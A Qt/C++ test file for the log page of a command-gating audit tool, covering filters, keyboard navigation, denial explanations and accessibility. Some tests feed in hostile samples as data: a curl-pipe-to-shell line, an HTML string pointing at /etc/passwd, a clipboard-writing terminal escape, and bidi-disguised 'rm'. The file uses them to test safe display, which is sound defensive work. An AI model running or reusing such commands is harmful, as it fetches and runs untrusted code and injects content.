// SPDX-License-Identifier: Apache-2.0
#include "tests/support/scripted_log.h"
#include "tests/support/scripted_runner.h"
#include "ui/log/detail_pane.h"
#include "ui/log/filter_line.h"
#include "ui/log/log_page.h"
#include "ui/log/log_table.h"
#include "ui/log/run_box.h"

#include <QAccessible>
#include <QApplication>
#include <QClipboard>
#include <QComboBox>
#include <QGuiApplication>
#include <QLabel>
#include <QLineEdit>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTabWidget>
#include <QTest>
#include <QToolButton>

using namespace portcullis;
using portcullis::test::ScriptedLog;
using portcullis::test::ScriptedRunner;
using portcullis::ui::DetailPane;
using portcullis::ui::ExecLogModel;
using portcullis::ui::FilterLine;
using portcullis::ui::LogPage;
using portcullis::ui::LogTable;
using portcullis::ui::RunBox;

namespace {

/// A page as a person has it in front of them, and the parts that a person would look at.
struct Page {
    explicit Page(int rows, bool immediate = true)
        : log(rows, immediate)
        , page(log, runner,
               {.recordPath = [] { return QStringLiteral("audit.db"); }, .clock = [] { return record::FilterClock{}; }})
    {
        page.resize(1000, 700);
    }

    void show()
    {
        page.show();
        QVERIFY(QTest::qWaitForWindowActive(&page));
    }

    template <class T>
    T *named(const char *name) const
    {
        for (T *widget : page.findChildren<T *>()) {
            if (widget->accessibleName() == QLatin1StringView(name))
                return widget;
        }
        return nullptr;
    }

    [[nodiscard]] LogTable *table() const { return page.findChild<LogTable *>(); }
    [[nodiscard]] QLineEdit *filter() const { return named<QLineEdit>("Filter of the log"); }
    [[nodiscard]] QLineEdit *command() const { return named<QLineEdit>("Command to run"); }
    [[nodiscard]] QString textOf(const char *name) const
    {
        const auto *label = named<QLabel>(name);
        return label != nullptr && label->isVisible() ? label->text() : QString();
    }
    [[nodiscard]] int currentRow() const { return table()->currentIndex().row(); }
    void choose(int row) const
    {
        table()->setFocus();
        table()->choose(row);
    }
    [[nodiscard]] QString allText() const
    {
        QString text;
        for (const QLabel *label : page.findChildren<QLabel *>()) {
            if (label->isVisible())
                text += label->text() + u'\n';
        }
        return text;
    }

    ScriptedLog log;
    ScriptedRunner runner;
    LogPage page;
};

void press(QWidget *widget, Qt::Key key, Qt::KeyboardModifiers modifiers = Qt::NoModifier)
{
    QTest::keyClick(widget, key, modifiers);
}

} // namespace

class TstLogPage : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void begins_in_the_table_with_the_newest_row_in_sight();
    void explains_a_denial_when_its_row_is_chosen();
    void follows_the_tail_only_for_a_reader_who_is_at_the_end();
    void freezes_and_goes_on_with_space();
    void goes_from_denial_to_denial_with_n_and_p();
    void goes_from_the_filter_to_the_table_and_back_by_keyboard();
    void keeps_the_last_good_filter_while_a_mistake_is_shown();
    void leaves_the_details_with_escape();
    void says_that_nothing_is_recorded_yet();
    void says_that_nothing_matches_and_offers_to_clear_the_filter();
    void says_why_the_record_cannot_be_read_and_tries_again();
    void runs_a_command_and_shows_its_row_and_output();
    void brings_the_reason_forward_when_a_command_is_refused();
    void says_that_the_filter_hides_the_command_that_was_run();
    void keeps_the_chosen_row_under_a_filter_that_shows_it();
    void tells_who_did_what_in_rows_that_are_no_commands();
    void says_that_the_record_is_unknown_while_the_configuration_is_broken();
    void refuses_to_run_when_read_only_and_says_why();
    void copies_the_visible_form_of_a_command();
    void marks_the_deciding_part_of_the_command();
    void shows_escape_sequences_of_the_output_as_tokens();
    void never_takes_text_of_a_command_for_markup();
    void names_every_control_for_screen_readers();
    void tab_goes_through_the_page_as_it_is_drawn();
    void zooms_into_a_stretch_of_time_by_keyboard();
};

void TstLogPage::begins_in_the_table_with_the_newest_row_in_sight()
{
    Page p(5000);
    p.show();
    QTRY_COMPARE(p.table()->model()->rowCount(), 5000);
    QVERIFY(p.table()->hasFocus());
    QTRY_COMPARE(p.table()->rowAt(p.table()->viewport()->height() - 3), 4999);
}

void TstLogPage::explains_a_denial_when_its_row_is_chosen()
{
    Page p(100);
    p.log.rows()[30].reason = "A script from the network would run unread.";
    p.log.rows()[30].advice = "Download it to a file, read it, then run the file.";
    p.show();
    p.choose(30);
    QTRY_VERIFY(p.textOf("Verdict").contains(QStringLiteral("Download into shell")));
    QCOMPARE(p.textOf("Why"), QStringLiteral("A script from the network would run unread."));
    QCOMPARE(p.textOf("Instead"), QStringLiteral("Download it to a file, read it, then run the file."));
}

void TstLogPage::follows_the_tail_only_for_a_reader_who_is_at_the_end()
{
    Page p(1000);
    p.show();
    QTRY_COMPARE(p.table()->rowAt(p.table()->viewport()->height() - 3), 999);
    p.log.grow(50);
    QTRY_COMPARE(p.table()->rowAt(p.table()->viewport()->height() - 3), 1049);
    p.choose(100);
    const int top = p.table()->rowAt(1);
    p.log.grow(50);
    QTRY_COMPARE(p.table()->model()->rowCount(), 1100);
    QCOMPARE(p.table()->rowAt(1), top);
}

void TstLogPage::freezes_and_goes_on_with_space()
{
    Page p(100);
    p.show();
    p.choose(99);
    press(p.table(), Qt::Key_Space);
    p.log.grow(128);
    auto *live = p.page.findChild<QToolButton *>();
    QTRY_COMPARE(live->text(), QStringLiteral("Frozen +128"));
    QCOMPARE(p.table()->model()->rowCount(), 100);
    press(p.table(), Qt::Key_Space);
    QCOMPARE(live->text(), QStringLiteral("Live"));
    QCOMPARE(p.table()->model()->rowCount(), 228);
}

void TstLogPage::goes_from_denial_to_denial_with_n_and_p()
{
    Page p(1000);
    p.show();
    p.choose(505);
    press(p.table(), Qt::Key_P);
    QTRY_COMPARE(p.currentRow(), 500);
    press(p.table(), Qt::Key_P);
    QTRY_COMPARE(p.currentRow(), 490);
    press(p.table(), Qt::Key_N);
    QTRY_COMPARE(p.currentRow(), 500);
}

void TstLogPage::goes_from_the_filter_to_the_table_and_back_by_keyboard()
{
    Page p(100);
    p.show();
    p.page.focusFilter();
    QTRY_VERIFY(p.filter()->hasFocus());
    QTest::keyClicks(p.filter(), QStringLiteral("verdict:deny"));
    press(p.filter(), Qt::Key_Return);
    QVERIFY(p.table()->hasFocus());
    QCOMPARE(p.log.filtersSet, 2);
    p.page.focusFilter();
    press(p.filter(), Qt::Key_Escape);
    QVERIFY(p.filter()->text().isEmpty());
    QCOMPARE(p.log.filtersSet, 3);
    press(p.filter(), Qt::Key_Escape);
    QVERIFY(p.table()->hasFocus());
}

void TstLogPage::keeps_the_last_good_filter_while_a_mistake_is_shown()
{
    Page p(100);
    p.show();
    p.page.focusFilter();
    QTest::keyClicks(p.filter(), QStringLiteral("tenant:acme verdct:deny"));
    press(p.filter(), Qt::Key_Return);
    QCOMPARE(p.log.filtersSet, 1);
    QVERIFY(p.textOf("Mistake in the filter").startsWith(QStringLiteral("Column 13:")));
    QVERIFY(p.textOf("Mistake in the filter").contains(QStringLiteral("verdict")));
    QVERIFY(p.filter()->hasFocus());
    p.filter()->setText(QStringLiteral("tenant:acme verdict:deny"));
    QVERIFY(p.textOf("Mistake in the filter").isEmpty());
}

void TstLogPage::leaves_the_details_with_escape()
{
    Page p(100);
    p.show();
    p.choose(30);
    auto *tabs = p.page.findChild<QTabWidget *>();
    QTRY_VERIFY(tabs->isVisible());
    press(p.table(), Qt::Key_Return);
    QVERIFY(tabs->isAncestorOf(QApplication::focusWidget()) || tabs->hasFocus());
    press(QApplication::focusWidget(), Qt::Key_Escape);
    QVERIFY(p.table()->hasFocus());
}

void TstLogPage::says_that_nothing_is_recorded_yet()
{
    Page p(0);
    p.show();
    QTRY_VERIFY(p.allText().contains(QStringLiteral("Nothing is recorded yet")));
    QVERIFY(p.allText().contains(QStringLiteral("audit.db")));
    p.log.append(ScriptedLog::makeEvent(0));
    QTRY_VERIFY(p.table()->isVisible());
}

void TstLogPage::says_that_nothing_matches_and_offers_to_clear_the_filter()
{
    Page p(10);
    p.show();
    p.log.rows().clear();
    p.filter()->setText(QStringLiteral("nothing-like-this"));
    press(p.filter(), Qt::Key_Return);
    QTRY_VERIFY(p.allText().contains(QStringLiteral("No command matches")));
    QPushButton *clear = nullptr;
    for (auto *button : p.page.findChildren<QPushButton *>()) {
        if (button->isVisible() && button->text() == QStringLiteral("Clear the filter"))
            clear = button;
    }
    QVERIFY(clear != nullptr);
    clear->click();
    QVERIFY(p.filter()->text().isEmpty());
}

void TstLogPage::says_why_the_record_cannot_be_read_and_tries_again()
{
    Page p(10);
    p.show();
    Q_EMIT p.log.failed(
        p.log.latest,
        {.code = "corrupt", .path = "/var/lib/audit.db", .errorNumber = 0, .version = 0, .lastGoodRow = 77});
    QTRY_VERIFY(p.allText().contains(QStringLiteral("The record cannot be read")));
    QVERIFY(p.allText().contains(QStringLiteral("/var/lib/audit.db")));
    QVERIFY(p.allText().contains(QStringLiteral("77")));
    for (auto *button : p.page.findChildren<QPushButton *>()) {
        if (button->isVisible() && button->text() == QStringLiteral("Try again"))
            button->click();
    }
    QTRY_VERIFY(p.table()->isVisible());
}

void TstLogPage::runs_a_command_and_shows_its_row_and_output()
{
    Page p(300);
    p.show();
    QTRY_COMPARE(p.table()->model()->rowCount(), 300);
    p.page.focusCommand();
    QTest::keyClicks(p.command(), QStringLiteral("echo hello"));
    press(p.command(), Qt::Key_Return);
    QCOMPARE(p.runner.requests.size(), 1);
    const decision::ExecRequest request = p.runner.requests.first();
    QCOMPARE(request.command, std::string("echo hello"));
    QCOMPARE(request.tenant, std::string("acme"));
    QCOMPARE(request.origin, Origin::Operator);

    record::Event event = ScriptedLog::makeEvent(1);
    event.id = "0193776c-ffff-7000-8000-000000000001";
    event.command = request.command;
    event.outcome = Outcome::Running;
    // The decision is in the record before the log hears of its row.
    p.choose(298);
    QTRY_VERIFY(p.table()->currentIndex().data(ExecLogModel::LoadedRole).toBool());
    p.log.addUnannounced(event);
    decision::Decision decision;
    decision.verdict = Verdict::Allow;
    Q_EMIT p.runner.decided(p.runner.lastId(), decision);
    QCoreApplication::processEvents();
    p.log.announceLast();
    QTRY_COMPARE(p.currentRow(), 300);

    QCOMPARE(p.page.findChild<QTabWidget *>()->currentIndex(), int(DetailPane::Output));
    Q_EMIT p.runner.output(p.runner.lastId(), ports::Channel::Out, "hel");
    Q_EMIT p.runner.output(p.runner.lastId(), ports::Channel::Out, "lo\n");
    QCOMPARE(p.named<QPlainTextEdit>("Standard output")->toPlainText(), QStringLiteral("hello\n"));

    ports::CommandEnd end;
    end.kind = ports::CommandEnd::Kind::Ran;
    end.outcome = Outcome::Exited;
    end.exitCode = 3;
    Q_EMIT p.runner.finished(p.runner.lastId(), end);
    QVERIFY(p.textOf("What became of the command").contains(QStringLiteral("exit 3")));
}

void TstLogPage::brings_the_reason_forward_when_a_command_is_refused()
{
    Page p(20);
    p.show();
    p.page.findChild<QTabWidget *>()->setCurrentIndex(DetailPane::Raw);
    QTest::keyClicks(p.command(), QStringLiteral("sudo id"));
    press(p.command(), Qt::Key_Return);
    record::Event event = ScriptedLog::makeEvent(0);
    event.id = ScriptedRunner::lastId();
    p.log.append(event);
    Q_EMIT p.runner.decided(ScriptedRunner::lastId(), {});
    QTRY_COMPARE(p.page.findChild<QTabWidget *>()->currentIndex(), int(DetailPane::Explain));
}

void TstLogPage::says_that_the_filter_hides_the_command_that_was_run()
{
    Page p(20);
    p.show();
    p.filter()->setText(QStringLiteral("tenant:globex"));
    QTRY_VERIFY(p.log.filtersSet >= 2);
    QTRY_VERIFY(p.currentRow() >= 0); // the scripted log filters nothing, the page does
    QTest::keyClicks(p.command(), QStringLiteral("echo hello"));
    press(p.command(), Qt::Key_Return);
    record::Event event = ScriptedLog::makeEvent(1);
    event.id = ScriptedRunner::lastId();
    p.log.addUnannounced(event);
    decision::Decision decision;
    decision.verdict = Verdict::Allow;
    Q_EMIT p.runner.decided(ScriptedRunner::lastId(), decision);
    QTRY_VERIFY(p.allText().contains(QStringLiteral("The filter hides this row")));
    QCOMPARE(p.currentRow(), -1); // no other row looks as if these were its details

    p.filter()->setText(QString());
    QTRY_VERIFY(p.currentRow() >= 0);
    QTRY_VERIFY(!p.allText().contains(QStringLiteral("The filter hides this row")));
}

void TstLogPage::keeps_the_chosen_row_under_a_filter_that_shows_it()
{
    Page p(100);
    p.show();
    QTRY_COMPARE(p.currentRow(), 99);
    p.choose(30);
    QTRY_VERIFY(p.textOf("Verdict").startsWith(QStringLiteral("Denied")));
    const int before = p.log.filtersSet;
    p.filter()->setText(QStringLiteral("verdict:deny"));
    QTRY_COMPARE(p.log.filtersSet, before + 1);
    QTRY_COMPARE(p.currentRow(), 30);
    QVERIFY(p.textOf("Verdict").startsWith(QStringLiteral("Denied")));
}

void TstLogPage::tells_who_did_what_in_rows_that_are_no_commands()
{
    Page p(20);
    record::Event edit;
    edit.row = p.log.rows()[5].row;
    edit.id = p.log.rows()[5].id;
    edit.kind = record::Kind::Edit;
    edit.timeUs = p.log.rows()[5].timeUs;
    edit.tenant = "acme";
    edit.verdict = Verdict::Allow;
    edit.reason = "reviewed";
    edit.detailJson = R"({"action":"add_exemption","file":"/p/acme.json","by":"anna","exemption":"x","rule":"dump"})";
    p.log.rows()[5] = edit;
    p.show();
    p.choose(5);
    const QString words = QStringLiteral("anna added exemption \"x\" for rule \"dump\": reviewed");
    const auto *model = p.table()->model();
    QTRY_COMPARE(model->index(5, ExecLogModel::Command).data().toString(), words);
    QCOMPARE(model->index(5, ExecLogModel::VerdictColumn).data().toString(), QStringLiteral("EDIT"));
    QCOMPARE(model->index(5, ExecLogModel::Result).data().toString(), QStringLiteral("–"));
    QTRY_COMPARE(p.textOf("Verdict"), words);
}

void TstLogPage::says_that_the_record_is_unknown_while_the_configuration_is_broken()
{
    ScriptedLog log(0, false);
    ScriptedRunner runner;
    runner.current = {.obstacle = ports::RunnerState::Obstacle::BadConfiguration,
                      .detail = "/gw/config.json:1:3: error",
                      .tenants = {}};
    LogPage page(log, runner, {.recordPath = [] { return QString(); }, .clock = [] { return record::FilterClock{}; }});
    page.show();
    const auto text = [&page] {
        QString all;
        for (const QLabel *label : page.findChildren<QLabel *>())
            all += label->isVisible() ? label->text() + u'\n' : QString();
        return all;
    };
    QTRY_VERIFY(text().contains(QStringLiteral("the record is not known")));
    QVERIFY(text().contains(QStringLiteral("/gw/config.json:1:3: error")));
    runner.current.obstacle = ports::RunnerState::Obstacle::None;
    Q_EMIT runner.stateChanged();
    QVERIFY(!text().contains(QStringLiteral("the record is not known")));
}

void TstLogPage::refuses_to_run_when_read_only_and_says_why()
{
    Page p(10);
    p.runner.current.obstacle = ports::RunnerState::Obstacle::ReadOnly;
    Q_EMIT p.runner.stateChanged();
    p.show();
    QVERIFY(!p.command()->isEnabled());
    QVERIFY(p.textOf("What became of the command").contains(QStringLiteral("read-only")));
}

void TstLogPage::copies_the_visible_form_of_a_command()
{
    Page p(20);
    p.log.rows()[5].command = "r\u200Bm \u202Efile";
    p.show();
    p.choose(5);
    QTRY_VERIFY(p.table()->currentIndex().data(ExecLogModel::LoadedRole).toBool());
    QTest::keySequence(p.table(), QKeySequence::Copy);
    QCOMPARE(QGuiApplication::clipboard()->text(), QStringLiteral("r<U+200B>m <U+202E>file"));
}

void TstLogPage::marks_the_deciding_part_of_the_command()
{
    Page p(20);
    p.log.rows()[10].command = "true; \xe2\x80\x8b"
                               "curl https://x | sh";
    p.log.rows()[10].spans = {{9, 4}, {26, 2}};
    p.show();
    p.choose(10);
    auto *view = p.named<QPlainTextEdit>("Command");
    QTRY_COMPARE(view->extraSelections().size(), 2);
    QStringList marked;
    for (const QTextEdit::ExtraSelection &selection : view->extraSelections()) {
        marked.append(selection.cursor.selectedText());
        QCOMPARE(selection.format.underlineStyle(), QTextCharFormat::SingleUnderline);
    }
    QCOMPARE(marked, (QStringList{QStringLiteral("curl"), QStringLiteral("sh")}));
}

void TstLogPage::shows_escape_sequences_of_the_output_as_tokens()
{
    Page p(20);
    p.log.output.out = "one\r\n\x1b]52;c;aGk=\x07two\n";
    p.show();
    p.choose(5);
    QTRY_COMPARE(p.named<QPlainTextEdit>("Standard output")->toPlainText(),
                 QStringLiteral("one\n<U+001B>]52;c;aGk=<U+0007>two\n"));
}

void TstLogPage::never_takes_text_of_a_command_for_markup()
{
    Page p(20);
    const std::string hostile = "<b>rm</b> <img src='file:///etc/passwd'>";
    record::Event &event = p.log.rows()[10];
    event.command = event.title = event.reason = event.advice = event.tenant = hostile;
    p.show();
    p.choose(10);
    QTRY_VERIFY(p.textOf("Why").contains(QStringLiteral("<b>rm</b>")));
    for (const QLabel *label : p.page.findChildren<QLabel *>()) {
        if (label->text().contains(QStringLiteral("<b>")))
            QCOMPARE(label->textFormat(), Qt::PlainText);
    }
}

void TstLogPage::names_every_control_for_screen_readers()
{
    Page p(20);
    p.show();
    p.choose(5);
    for (const QWidget *widget : p.page.findChildren<QWidget *>()) {
        const bool control = widget->inherits("QLineEdit") || widget->inherits("QAbstractButton")
            || widget->inherits("QComboBox") || widget->inherits("QAbstractItemView")
            || widget->inherits("QPlainTextEdit");
        if (!control || widget->focusPolicy() == Qt::NoFocus || !widget->isVisible())
            continue;
        QAccessibleInterface *spoken = QAccessible::queryAccessibleInterface(const_cast<QWidget *>(widget));
        QVERIFY(spoken != nullptr);
        QVERIFY2(!spoken->text(QAccessible::Name).isEmpty(), widget->metaObject()->className());
    }
}

void TstLogPage::tab_goes_through_the_page_as_it_is_drawn()
{
    Page p(20);
    p.show();
    QTRY_VERIFY(p.command()->isEnabled());
    p.page.focusFilter();
    QStringList names;
    for (int i = 0; i < 30 && !names.contains(QStringLiteral("Command to run")); ++i) {
        names.append(QApplication::focusWidget()->accessibleName());
        QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
    }
    names.removeIf([](const QString &name) {
        return !QStringList{QStringLiteral("Filter of the log"), QStringLiteral("Commands over time"),
                            QStringLiteral("Log of commands"),   QStringLiteral("Command"),
                            QStringLiteral("Tenant to run as"),  QStringLiteral("Command to run")}
                    .contains(name);
    });
    QCOMPARE(names,
             (QStringList{QStringLiteral("Filter of the log"), QStringLiteral("Commands over time"),
                          QStringLiteral("Log of commands"), QStringLiteral("Command"),
                          QStringLiteral("Tenant to run as"), QStringLiteral("Command to run")}));
}

void TstLogPage::zooms_into_a_stretch_of_time_by_keyboard()
{
    Page p(5000);
    p.show();
    QTRY_VERIFY(p.log.histogramsAsked > 0);
    auto *bars = p.named<QWidget>("Commands over time");
    bars->setFocus();
    press(bars, Qt::Key_Home);
    QVERIFY(bars->accessibleDescription().contains(QStringLiteral("refused")));
    press(bars, Qt::Key_Right, Qt::ShiftModifier);
    press(bars, Qt::Key_Return);
    QVERIFY2(p.filter()->text().startsWith(QStringLiteral("time:2023-11-1")), qPrintable(p.filter()->text()));
    QCOMPARE(p.log.filtersSet, 2);
    const QString first = p.filter()->text();
    QTRY_VERIFY(p.log.histogramsAsked > 1);
    press(bars, Qt::Key_End);
    press(bars, Qt::Key_Return);
    QVERIFY(p.filter()->text() != first);
    QCOMPARE(p.filter()->text().count(QStringLiteral("time:")), 1);
}

QTEST_MAIN(TstLogPage)
#include "tst_log_page.moc"
